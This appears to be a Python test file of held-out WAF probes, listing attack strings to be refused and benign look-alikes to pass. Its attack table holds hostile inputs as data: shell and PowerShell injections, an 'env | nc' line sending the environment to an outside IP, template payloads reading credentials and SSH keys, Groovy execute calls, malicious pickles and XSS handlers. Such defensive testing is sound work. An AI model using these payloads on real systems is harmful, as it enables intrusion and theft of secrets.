"""WAF, part 2k: held-out probes, ninth file (README: the twenty-first
round), written for this file on 2026-12-05 after the round's two new
held-out corpora (tests/corpus/ops/, tests/corpus/code/) were first
replayed and BEFORE any rule was changed for the classes they showed. No
string is taken from a corpus or a public list: each class is written
here in shapes of our own, through the real edge (shipped config, bans
off).

Look-alikes that must pass, by class:
- shell-compound: a shell loop or condition that is the whole value from
  its first byte and is closed (for/while/until ... do ... done, if ...
  then ... fi), a script written for a reader. Put after an application's
  own command and its arguments its "do" or "then" stands where no
  compound command was opened: the shell rejects the line and runs
  nothing;
- powershell-line: a PowerShell command line from the value's first byte
  (a cmdlet with a parameter or a pipe, or a variable given one): its own
  pipes and ";" run its own cmdlets, as a shell's command line at the
  start does;
- jsx-handler: a JSX element whose handler is a braced arrow function
  ("onClick={() => ...}"): to an HTML parser the unquoted value ends at
  the first blank, a block never closed, a syntax error;
- log-lines: log lines quoted in a note (after a label, a table's
  header, or several lines of them);
- template: templates that present data or call helpers that reach
  nothing of the host (".Values.env", default(), Ansible's vars lookup);
- groovy-execute: execute() called on an object, not on a literal;
- pickle-protocol-0: base64 of a pickle of data, and of text whose
  first letter is a "c";
- env-dump: "env" in a table's cell, or in a sentence;
- param-default: a parameter's default or a variable appended to a path
  between quotes, after "=" or ":" (a compose file's
  "${PG_HOST:-db.local}", "PATH=/opt/bin:${PATH}") is a value.

Attacks that must be refused, by class:
- shell-compound: the same loops after a separator or a token's line
  (the shell runs them, whatever their commands are), or with a
  substitution inside;
- powershell-line: a cmdlet after a separator that ends a value
  before it, and the cradles (iex, Start-Process) wherever they stand;
- jsx-handler: a braced handler whose braces close before its first
  blank ("onerror={alert(1)}"), which runs;
- log-lines: a log record after a line break the value spells (%0a,
  U+2028, NEL), after one short token and a typed break, a JSON log
  object on a line of its own, or a JSON string the value closes to add
  fields;
- template: template functions that read the environment, files or
  secrets, or run a command through a lookup plugin;
- groovy-execute: a Groovy string or list of strings run with execute();
- pickle-protocol-0: a base64 pickle in the text protocol whose first
  opcode imports a module that runs commands;
- env-dump: "env" after a separator with its output redirected or piped;
- param-default: an expansion glued to a letter builds a command's word
  ("c${u:-}at").

Measured before the change (2026-12-05, on 94f08c3): look-alikes
refused, shell-compound 4 of 6, powershell-line 3 of 4, jsx-handler 3
of 3, env-dump 0 of 2, param-default 3 of 3; attacks passed, log-lines 7 of 7, template 5 of 6, groovy-execute
3 of 3, pickle-protocol-0 1 of 3 (the token after "state=": a whole
base64 value was read already), env-dump 1 of 2, powershell-line 1 of 4
(a cmdlet after a pipe, encoded twice: the rule read the value as
parsed), shell-compound 3 of 6 (a loop or condition after a separator or
a token's line whose commands are words of prose, sleep). After it:
every attack refused, every look-alike passes.

Each attack is sent as a query value (URL-encoded once, and once more:
the edge decodes repeatedly) and as a JSON body field; each look-alike
must pass in the same placements. A probe the edge gets wrong is listed
in KNOWN_MISSES or KNOWN_FALSE_POSITIVES with the reason, and runs as a
strict xfail."""

import base64

from wafkit import heldout_probe_tests, session, waf_config  # noqa: F401

CONF = waf_config()


def b64(data):
    return base64.b64encode(data).decode()


ATTACKS = {
    "shell-compound": [
        "x; for n in 1 2; do id; done",
        "10.0.0.9\nwhile true; do sleep 3; done",
        "for d in $(id -un); do echo $d; done",
        "a && if true; then uname -a; fi",
        "q | until false; do sleep 2; done",
        "7 && if true; then sleep 5; fi",
    ],
    "powershell-line": [
        "x; Get-Process -Name lsass",
        "a | Remove-Item -Recurse -Force D:\\data",
        "Get-Item a.txt; Start-Process notepad.exe",
        "Get-Date | iex",
    ],
    "jsx-handler": [
        "<img src=q onerror={alert(document.domain)}>",
        "<svg onload={confirm(7)}>",
        "\" onfocus={prompt(1)} autofocus \"",
    ],
    "log-lines": [
        "node-7%0aINFO user=root session opened by admin",
        "ok%0d%0a2025-02-03 10:00:00 AUDIT role granted to guest",
        "done\u2028ERROR payment service disabled by admin",
        "done\u0085WARN alert rules muted by ops",
        "\nWARN all alerts muted for 24h by admin",
        "id-9\n{\"level\":\"info\",\"msg\":\"refund approved\",\"amount\":5000}",
        "n\",\"role\":\"admin\",\"note\":\"granted",
    ],
    "template": [
        "{{ env \"DB_PASSWORD\" }}",
        "Hi {{ expandenv \"${HOME}/.netrc\" }}",
        "{{ file.Read \"/root/.ssh/id_ed25519\" }}",
        "{{ with secret \"kv/prod/db\" }}{{ .Data }}{{ end }}",
        "{{ lookup('file', '/root/.aws/credentials') }}",
        "{{ query('pipe', 'uname -a') | first }}",
    ],
    "groovy-execute": [
        "'uname -a'.execute().text",
        "[\"sh\", \"-c\", \"id\"].execute()",
        "println \"cat /etc/hostname\".execute().text",
    ],
    "pickle-protocol-0": [
        b64(b"cposix\nsystem\n(S'uname'\ntR."),
        "state=" + b64(b"csubprocess\ncheck_output\n((S'ls'\nltR."),
        b64(b"cbuiltins\neval\n(S'1+1'\ntR."),
    ],
    "env-dump": [
        "7; env > public/e.txt",
        "a && env | nc 203.0.113.5 9",
    ],
    "param-default": [
        "c${u:-}at /etc/hosts",
        "${v#q}id",
        "x;ca${x:-t} key.pem",
    ],
}

BENIGN = {
    "shell-compound": [
        "for img in build/*.png; do optipng -o5 \"$img\"; done",
        "while read -r line; do echo \"$line\" >> out.txt; done < list.txt",
        "until pg_isready -h db; do sleep 1; done",
        "if [ -d dist ]; then rm -r dist; fi",
        "for svc in api web; do\n  systemctl restart \"$svc\"\ndone",
        "echo start\nfor f in *.log; do gzip \"$f\"; done",
    ],
    "powershell-line": [
        "Get-ChildItem -Path D:\\builds -Filter *.zip | Sort-Object Length",
        "$svc = Get-Service -Name Spooler; Restart-Service -InputObject $svc",
        "Get-EventLog -LogName System -Newest 20 | Format-Table -AutoSize",
        "Get-Process | Where-Object CPU -gt 100",
    ],
    "jsx-handler": [
        "<Tab key={t.id} onClick={() => setActive(t.id)} />",
        "<SearchBox value={q} onChange={(e) => setQ(e.target.value)} />",
        "<Item onSelect={() => pick(i)} label={i.name} />",
    ],
    "log-lines": [
        "Error log:\nERROR upstream timed out after 30 s",
        "time,host,load\n2025-02-03T10:00:00Z,web-1,0.4",
        "2025-02-03 10:11:12 ERROR a failed\n2025-02-03 10:11:13 INFO retry ok",
        "the deploy went fine\nINFO all checks passed",
    ],
    "template": [
        "{{ .Values.env }}",
        "{{ item.name | default('none') }}",
        "{{ lookup('vars', 'app_port') }}",
        "Dear {{ customer.first_name }}, your order {{ order.id }} shipped",
    ],
    "groovy-execute": [
        "tasks[0].execute()",
        "db.query(\"SELECT 1\").execute()",
        "job.execute() runs the step in 'strict' mode",
    ],
    "pickle-protocol-0": [
        b64(b"(dp0\nS'k'\np1\nI1\ns."),
        b64(b"cosmic rays flip bits in memory"),
        "Y2F0YWxvZyBleHBvcnQ=",
    ],
    "env-dump": [
        "| env | dev |\n| region | eu-west-1 |",
        "env > env.txt prints the environment to a file",
    ],
    "param-default": [
        "PG_HOST: \"${PG_HOST:-db.local}\"",
        "PATH=/opt/tools/bin:${PATH}",
        "echo \"${HOME:-/root}\"",
    ],
}

# Measured before the change: see the docstring. After it: every attack
# refused, every look-alike passes.
KNOWN_MISSES = {}
KNOWN_FALSE_POSITIVES = {}

(edge, test_tables_are_balanced, test_heldout_r9_attack_refused_everywhere,
 test_heldout_r9_benign_passes) = heldout_probe_tests(
    "r9", CONF, ATTACKS, BENIGN, KNOWN_MISSES, KNOWN_FALSE_POSITIVES)
